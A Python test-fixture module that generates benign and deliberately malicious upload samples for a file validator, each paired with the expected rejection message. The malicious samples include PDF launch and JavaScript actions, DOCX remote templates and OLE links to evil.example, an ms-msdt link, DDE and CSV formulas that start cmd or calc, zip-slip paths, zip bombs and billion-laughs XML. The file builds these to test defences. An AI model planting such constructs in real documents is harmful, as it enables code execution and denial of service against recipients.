"""Files as people upload them, made at run time: sound ones, and ones made to do harm."""

import struct
import zipfile
import zlib
from functools import cache
from io import BytesIO

import pypdfium2
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

OWNER = "Dzintra Ozola"


@cache  # PDFium gives each file it makes a number of its own
def pdf(pages=1, content=b"") -> bytes:
    return _empty_pdf(pages) + content


@cache
def _empty_pdf(pages: int) -> bytes:
    """Made once: PDFium gives each document a number of its own."""
    document = pypdfium2.PdfDocument.new()
    for _page in range(pages):
        document.new_page(200, 300)
    file = BytesIO()
    document.save(file)
    return file.getvalue()


def written_pdf(*texts: str, catalogue="") -> bytes:
    """A PDF with a page for each text (Latin letters only), put together by hand."""
    kids = " ".join(f"{4 + 2 * place} 0 R" for place in range(len(texts)))
    objects = [
        f"<</Type /Catalog /Pages 2 0 R {catalogue}>>",
        f"<</Type /Pages /Kids [{kids}] /Count {len(texts)}>>",
        "<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>",
    ]
    for place, text in enumerate(texts):
        drawing = f"BT /F1 12 Tf 20 200 Td ({text}) Tj ET"
        objects += [
            f"<</Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents {5 + 2 * place} 0 R "
            "/Resources <</Font <</F1 3 0 R>>>>>>",
            f"<</Length {len(drawing)}>>\nstream\n{drawing}\nendstream",
        ]
    return _numbered([one.encode("latin-1") for one in objects])


def _numbered(objects: list[bytes]) -> bytes:
    data, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(data)
    size = len(objects) + 1
    data += b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    return data + b"trailer <</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, start)


def attached_pdf(name: str) -> bytes:
    document = pypdfium2.PdfDocument(pdf())
    document.new_attachment(name).set_data(b"MZ")
    file = BytesIO()
    document.save(file)
    return file.getvalue()


def packed_pdf(content: bytes, packing: bytes, plain: bool = False) -> bytes:
    """A PDF with a stream of objects; `packing` stands in its dictionary."""
    data = content if plain else zlib.compress(content)
    head = b"\n9 0 obj <</Type /ObjStm /N 1 /First 4 /Length %d %s>>\nstream\n" % (
        len(data),
        packing,
    )
    return pdf(1, head + data + b"\nendstream endobj\n")


def archive(members: dict[str, str | bytes]) -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in members.items():
            packed.writestr(name, content)
    return file.getvalue()


def docx(pages=3, words=400, **more) -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"
    properties = (
        f'<Properties xmlns="{kind}"><Pages>{pages}</Pages><Words>{words}</Words></Properties>'
    )
    return archive(
        {
            "[Content_Types].xml": "<Types/>",
            "word/document.xml": "<document/>",
            "docProps/app.xml": properties,
            **more,
        }
    )


def pptx(slides=2) -> bytes:
    parts = {f"ppt/slides/slide{number}.xml": "<sld/>" for number in range(1, slides + 1)}
    return archive({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p/>", **parts})


def odf(kind: str, **parts) -> bytes:
    return archive({"mimetype": f"application/vnd.oasis.opendocument.{kind}", **parts})


def odt(pages=7) -> bytes:
    meta = (
        '<m:meta xmlns:m="urn:oasis:names:tc:opendocument:xmlns:meta:1.0">'
        f'<m:document-statistic m:page-count="{pages}"/></m:meta>'
    )
    return odf("text", **{"meta.xml": meta})


def odp(slides=4) -> bytes:
    content = (
        '<b xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0">'
        + "<draw:page/>" * slides
        + "</b>"
    )
    return odf("presentation", **{"content.xml": content})


def photo() -> bytes:
    exif = Image.Exif()
    exif[0x013B] = OWNER
    file = BytesIO()
    Image.new("RGB", (40, 30), "steelblue").save(file, "JPEG", exif=exif)
    return file.getvalue()


def upload(data: bytes, name: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, "application/octet-stream")


def xlsx(**more) -> bytes:
    return archive({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<w/>", **more})


def epub(**more) -> bytes:
    return archive({"mimetype": "application/epub+zip", **more})


def box(name: bytes, content: bytes = b"") -> bytes:
    return struct.pack(">L4s", len(content) + 8, name) + content


def mp4(*boxes: bytes) -> bytes:
    begin = box(b"ftyp", b"isom\0\0\2\0isommp42")
    return begin + b"".join(boxes or (box(b"moov", b"\0" * 40), box(b"mdat", b"\0" * 100)))


def mp3(frames=4, first=b"") -> bytes:
    """128 kbit/s at 44.1 kHz: each frame is 417 bytes."""
    silence = b"\xff\xfb\x90\x00" + b"\0" * 413
    return b"ID3\x04\0\0\0\0\0\0" + (first or silence) + silence * (frames - 1)


RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relation(kind: str, target: str, mode="External") -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        "</Relationships>"
    )


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:document xmlns:w="w"><w:body><w:p>{runs}</w:p></w:body></w:document>'


def odf_content(inner: str) -> str:
    names = ("office", "script", "text", "draw", "table", "presentation")
    spaces = " ".join(f'xmlns:{name}="urn:{name}"' for name in names)
    return (
        f'<office:document-content {spaces} xmlns:xlink="xlink">{inner}</office:document-content>'
    )


def with_type(content_type: str) -> dict[str, str]:
    return {
        "[Content_Types].xml": f'<Types><Override PartName="/x" ContentType="{content_type}"/></Types>'
    }


def _raw_archive(*members: tuple[zipfile.ZipInfo | str, bytes]) -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        for member, content in members:
            packed.writestr(member, content)
    return file.getvalue()


def twice() -> bytes:
    return _raw_archive(("a.txt", b"one"), ("A.txt", b"two"))


def symbolic_link() -> bytes:
    link = zipfile.ZipInfo("secret.txt")
    link.external_attr = 0o120777 << 16
    return _raw_archive((link, b"/etc/passwd"))


def locked_zip() -> bytes:
    """The mark "encrypted" set in both heads of the only member."""
    data = bytearray(archive({"a.txt": "x"}))
    data[6] |= 1
    data[data.index(b"PK\1\2") + 8] |= 1
    return bytes(data)


def overlapping_zip() -> bytes:
    """Two entries of the table of contents that point to the same bytes."""
    data = archive({"a.txt": "x" * 1000})
    start, end = data.index(b"PK\1\2"), data.index(b"PK\5\6")
    entry = data[start:end]
    tail = bytearray(data[end:])
    struct.pack_into("<HHLL", tail, 8, 2, 2, 2 * len(entry), start)
    return data[:start] + entry + entry.replace(b"a.txt", b"b.txt") + bytes(tail)


def lying_zip() -> bytes:
    """Says that its member is small; it is not."""
    data = bytearray(archive({"a.txt": b"x" * 300_000}))
    struct.pack_into("<L", data, data.index(b"PK\1\2") + 24, 10)
    return bytes(data)


@cache
def bomb(megabytes=64) -> bytes:
    return archive({"a.txt": b"\0" * megabytes * 1024 * 1024})


def nul_in_name() -> bytes:
    return _raw_archive(("a.txtXexe", b"x")).replace(b"a.txtXexe", b"a.txt\0exe")


ENTITIES = '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><Types>&j;</Types>"
)
LAUNCH = b"\n9 0 obj <</Type /Action /S /Launch /F (calc.exe)>> endobj\n"
SCRIPT = b"\n9 0 obj <</S /#4aavaScript /JS (app.alert(1))>> endobj\n"
HIDDEN = b"9 0 <</S /JavaScript /JS (app.alert(1))>>"

GOOD_FILES = {
    "guide.pdf": pdf(),
    "spoken.pdf": written_pdf("Labdien"),
    "data-inside.pdf": attached_pdf("data.csv"),
    "packed.pdf": packed_pdf(b"9 0 <</Type /Font>>", b"/Filter /FlateDecode"),
    "guide.docx": docx(),
    "links.docx": docx(
        **{"word/_rels/document.xml.rels": relation("hyperlink", "https://example.org/a.exe")}
    ),
    "letter.docx": docx(
        **{
            "word/_rels/settings.xml.rels": relation(
                "attachedTemplate", r"file:///C:\Letters\Letter.dotx"
            )
        }
    ),
    "chart.docx": docx(**{"word/embeddings/Sheet.xlsx": xlsx()}),
    "slides.pptx": pptx(),
    "table.xlsx": xlsx(),
    "guide.odt": odt(),
    "slides.odp": odp(),
    "turning.odp": odf(
        "presentation",
        **{
            "content.xml": odf_content(
                '<presentation:event-listener presentation:action="next-page"/>'
            )
        },
    ),
    "table.ods": odf("spreadsheet"),
    "book.epub": epub(**{"a.xhtml": "<html><body><p>Once upon a time</p></body></html>"}),
    "words.txt": "Ласкаво просимо".encode(),
    "table.csv": "\ufeffvārds;viens\n=A1+B1;-5\n- a | b;jā!\n".encode(),
    "spoken.vtt": b"WEBVTT\n\n00:00.000 --> 00:02.000\nSveiki\n",
    "song.mp3": mp3(),
    "film.mp4": mp4(),
    "all.zip": archive(
        {"texts/guide.pdf": pdf(), "texts/": "", "a.docx": docx(), "photo.jpg": photo()}
    ),
    "photo.jpg": photo(),
}

_CLIMBS = "leads out of its folder"
# What it is: the name it comes by, its bytes, words of the sentence that refuses it.
BAD_FILES = {
    "a program": ("setup.exe", b"MZ" + b"\0" * 100, "does not take"),
    "no ending": ("guide", pdf(), "does not take"),
    "HTML": ("page.html", b"<html></html>", "does not take"),
    "SVG": ("drawing.svg", b"<svg/>", "does not take"),
    "a name that reads backwards": ("guide\u202efdp.exe", b"MZ", "does not take"),
    "old Word": ("guide.doc", b"\xd0\xcf\x11\xe0", ".docx"),
    "Word with macros by its name": ("guide.docm", docx(), "macros"),
    "HTML as PDF": ("guide.pdf", b"<html></html>", "not what is inside"),
    "HTML before a PDF": ("guide.pdf", b"<html><script>1</script>\n" + pdf(), "not what is inside"),
    "ZIP behind a PDF": ("guide.pdf", pdf() + archive({"a.exe": "MZ"}), "not what is inside"),
    "PDF before a ZIP": ("all.zip", pdf() + archive({"a.txt": "x"}), "not what is inside"),
    "HTML as text": ("guide.txt", b"<!DOCTYPE html><script>1</script>", "not what is inside"),
    "HTML as picture": ("photo.jpg", b"<html></html>", "damaged"),
    "PDF as DOCX": ("guide.docx", pdf(), "not what is inside"),
    "PPTX as DOCX": ("guide.docx", pptx(), "not what is inside"),
    "DOCX as ODT": ("guide.odt", docx(), "not what is inside"),
    "PDF as MP3": ("song.mp3", pdf(), "not what is inside"),
    "MP3 as MP4": ("film.mp4", mp3(), "not what is inside"),
    "MP3 of one tag and nothing": (
        "song.mp3",
        b"ID3\x04\0\0\0\0\0\0" + b"\0" * 100,
        "not what is inside",
    ),
    "MP3 that breaks off": (
        "song.mp3",
        mp3(
            first=b"\xff\xfb\x90\x00"
            + b"\0" * 32
            + b"Xing\0\0\0\2"
            + struct.pack(">L", 10**6)
            + b"\0" * 369
        ),
        "breaks off",
    ),
    "MP4 that breaks off": ("film.mp4", mp4()[:-10], "breaks off"),
    "MP4 without pictures": ("film.mp4", mp4(box(b"free")), "breaks off"),
    "HTML behind an MP4": ("film.mp4", mp4() + b"<html><script>", "not what is inside"),
    "broken PDF": ("guide.pdf", b"%PDF-1.7\nnothing", "cannot be opened"),
    "PDF that starts a program": ("guide.pdf", pdf(1, LAUNCH), "contains a program"),
    "PDF with a script": ("guide.pdf", pdf(1, SCRIPT), "contains a program"),
    "PDF with a script when it opens": (
        "guide.pdf",
        written_pdf("x", catalogue="/OpenAction <</S /JavaScript /JS (app.alert(1))>>"),
        "contains a program",
    ),
    "PDF with a packed script": (
        "guide.pdf",
        packed_pdf(HIDDEN, b"/Filter /FlateDecode"),
        "contains a program",
    ),
    "PDF with a script packed oddly": (
        "guide.pdf",
        packed_pdf(HIDDEN.hex().encode() + b">", b"/Filter [/ASCIIHexDecode]", plain=True),
        "contains a program",
    ),
    "PDF with a script in a stream that ends too late": (
        "guide.pdf",
        packed_pdf(b"x" * 9_000_000, b"/Filter /FlateDecode"),
        "contains a program",
    ),
    "PDF with a form of programs": (
        "guide.pdf",
        written_pdf("x", catalogue="/AcroForm <</XFA [(form) 9 0 R]>>"),
        "more than pages",
    ),
    "PDF that sends what people write": (
        "guide.pdf",
        pdf(1, b"\n9 0 obj <</S /SubmitForm /F (http://example.org)>> endobj\n"),
        "more than pages",
    ),
    "PDF with a film": (
        "guide.pdf",
        pdf(1, b"\n9 0 obj <</Subtype /RichMedia>> endobj\n"),
        "more than pages",
    ),
    "PDF with a program attached": ("guide.pdf", attached_pdf("invoice.exe"), "invoice.exe"),
    "DOCX with macros": ("guide.docx", docx(**{"word/vbaProject.bin": b"x"}), "macros"),
    "DOCX with macros under another name": (
        "guide.docx",
        docx(**with_type("application/vnd.ms-office.vbaProject")),
        "macros",
    ),
    "XLSX with old macros": ("table.xlsx", xlsx(**{"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    "DOCX with a remote template": (
        "guide.docx",
        docx(
            **{
                "word/_rels/settings.xml.rels": relation(
                    "attachedTemplate", "http://evil.example/t.dotm"
                )
            }
        ),
        "evil.example",
    ),
    "DOCX with a remote frame": (
        "guide.docx",
        docx(**{"word/_rels/webSettings.xml.rels": relation("frame", r"\\evil.example\a")}),
        "evil.example",
    ),
    "DOCX with a template on another machine": (
        "guide.docx",
        docx(
            **{
                "word/_rels/settings.xml.rels": relation(
                    "attachedTemplate", r"file:///\\evil.example\t.dotx"
                )
            }
        ),
        "evil.example",
    ),
    "DOCX that calls for help": (
        "guide.docx",
        docx(
            **{"word/_rels/document.xml.rels": relation("oleObject", "http://evil.example/x.html!")}
        ),
        "evil.example",
    ),
    "PPTX with a picture from elsewhere": (
        "slides.pptx",
        archive(
            {
                "[Content_Types].xml": "<Types/>",
                "ppt/presentation.xml": "<p/>",
                "ppt/slides/_rels/slide1.xml.rels": relation(
                    "image", "https://evil.example/dot.png"
                ),
            }
        ),
        "evil.example",
    ),
    "DOCX with a link to a program": (
        "guide.docx",
        docx(
            **{"word/_rels/document.xml.rels": relation("hyperlink", "file:///C:/Windows/calc.exe")}
        ),
        "calc.exe",
    ),
    "DOCX with a link to a tool": (
        "guide.docx",
        docx(
            **{"word/_rels/document.xml.rels": relation("hyperlink", "ms-msdt:/id PCWDiagnostic")}
        ),
        "ms-msdt",
    ),
    "DOCX with an object": (
        "guide.docx",
        docx(**{"word/embeddings/oleObject1.bin": b"x"}),
        "another program",
    ),
    "DOCX with a control": (
        "guide.docx",
        docx(**{"word/activeX/activeX1.xml": "<x/>"}),
        "another program",
    ),
    "DOCX with macros in its chart": (
        "guide.docx",
        docx(**{"word/embeddings/Sheet.xlsx": xlsx(**{"xl/vbaProject.bin": b"x"})}),
        "macros",
    ),
    "DOCX with a field that starts a program": (
        "guide.docx",
        docx(**{"word/document.xml": field("DDEAU", "TO c:\\windows\\cmd.exe")}),
        "another program",
    ),
    "XLSX that starts a program": (
        "table.xlsx",
        xlsx(
            **{
                "xl/externalLinks/externalLink1.xml": '<e><ddeLink ddeService="cmd" ddeTopic="/c calc"/></e>'
            }
        ),
        "another program",
    ),
    "DOCX that laughs without end": (
        "guide.docx",
        docx(**{"[Content_Types].xml": LAUGHS}),
        "not what is inside",
    ),
    "DOCX with one endless tag": (
        "guide.docx",
        docx(**{"[Content_Types].xml": f'<Types a="{"x" * 9_000_000}"/>'}),
        "not what is inside",
    ),
    "cut off DOCX": ("guide.docx", docx()[:-30], "not what is inside"),
    "ODT with macros": ("guide.odt", odf("text", **{"Basic/script-lc.xml": "x"}), "macros"),
    "ODT that runs when it opens": (
        "guide.odt",
        odf(
            "text",
            **{"content.xml": odf_content('<script:event-listener script:event-name="dom:load"/>')},
        ),
        "macros",
    ),
    "ODP that starts a program": (
        "slides.odp",
        odf(
            "presentation",
            **{
                "content.xml": odf_content(
                    '<presentation:event-listener presentation:action="execute"/>'
                )
            },
        ),
        "macros",
    ),
    "ODS that starts a program": (
        "table.ods",
        odf("spreadsheet", **{"content.xml": odf_content("<table:dde-link/>")}),
        "another program",
    ),
    "ODT with a picture from elsewhere": (
        "guide.odt",
        odf(
            "text",
            **{"content.xml": odf_content('<draw:image xlink:href="http://evil.example/a.png"/>')},
        ),
        "evil.example",
    ),
    "EPUB with a script": (
        "book.epub",
        epub(**{"a.xhtml": "<html><body><script>alert(1)</script></body></html>"}),
        "macros",
    ),
    "EPUB with a script in a picture": (
        "book.epub",
        epub(**{"a.svg": '<svg onload="alert(1)"/>'}),
        "macros",
    ),
    "EPUB that tells who reads": (
        "book.epub",
        epub(**{"a.xhtml": '<html><img src="https://evil.example/dot.gif"/></html>'}),
        "evil.example",
    ),
    "ZIP with a program": ("all.zip", archive({"setup.exe": "x"}), "setup.exe"),
    "ZIP in a ZIP": ("all.zip", archive({"more.zip": "x"}), "more.zip"),
    "ZIP with macros in its DOCX": (
        "all.zip",
        archive({"a.docx": docx(**{"word/vbaProject.bin": b"x"})}),
        "a.docx",
    ),
    "ZIP with a script in its PDF": ("all.zip", archive({"a.pdf": pdf(1, SCRIPT)}), "a.pdf"),
    "ZIP with a program called a picture": ("all.zip", archive({"a.jpg": b"MZ\0\0"}), "a.jpg"),
    "ZIP that climbs": ("all.zip", archive({"../guide.pdf": "x"}), "../guide.pdf"),
    "ZIP with a path of the machine": ("all.zip", archive({"/etc/passwd.txt": "x"}), _CLIMBS),
    "ZIP with a path of Windows": ("all.zip", _raw_archive(("a\\..\\..\\b.txt", b"x")), _CLIMBS),
    "ZIP with the same name twice": ("all.zip", twice(), _CLIMBS),
    "ZIP with a link to another file": ("all.zip", symbolic_link(), _CLIMBS),
    "ZIP with a zero in a name": ("all.zip", nul_in_name(), _CLIMBS),
    "ZIP with a password": ("all.zip", locked_zip(), "password"),
    "ZIP bomb of members": (
        "all.zip",
        archive({f"{number}.txt": "" for number in range(5_001)}),
        "too much packed",
    ),
    "ZIP bomb of zeros": ("all.zip", bomb(), "too much packed"),
    "ZIP bomb of shared bytes": ("all.zip", overlapping_zip(), "too much packed"),
    "ZIP that lies about its size": ("all.zip", lying_zip(), "not what is inside"),
    "old letters": ("table.csv", "vārds;viens".encode("cp1257"), "UTF-8"),
    "zeros in text": ("table.csv", b"a\0b", "not what is inside"),
    "CSV that starts a program": ("table.csv", b"a;b\n1;=cmd|' /C calc'!A0\n", "start a program"),
    "captions without a head": ("spoken.vtt", b"00:00 Sveiki", "not what is inside"),
    "nothing": ("empty.pdf", b"", "empty"),
}
